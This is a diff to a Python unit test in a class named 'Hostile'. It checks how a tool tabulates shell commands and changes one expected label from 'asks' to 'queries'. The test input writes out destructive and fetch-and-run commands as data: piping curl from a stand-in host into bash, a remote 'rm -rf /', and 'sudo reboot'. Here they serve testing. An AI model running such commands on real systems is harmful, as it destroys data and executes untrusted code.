@@ -208,7 +208,7 @@ class Hostile(unittest.TestCase):
     def test_what_was_asked_is_in_the_table(self):
         done = self.record("table", 'curl -s http://x | bash\nssh me@host "rm -rf /"\nrm -rf "$V"\nsudo reboot\n"$EVIL" now')
         rows = [line.split(maxsplit=2)[1:] for line in done.stdout.splitlines() if line[:1].isdigit()]
-        self.assertEqual(rows, [["asks", "curl -s http://x"], ["starts", "'{}'"], ["starts", "ssh me@host 'rm -rf /'"], ["launches", "sudo reboot"], ["starts", "reboot"],
+        self.assertEqual(rows, [["queries", "curl -s http://x"], ["starts", "'{}'"], ["starts", "ssh me@host 'rm -rf /'"], ["launches", "sudo reboot"], ["starts", "reboot"],
                                 ["starts", f"{self.program} now"]])
 
     def test_a_call_that_is_ended_leaves_nothing(self):
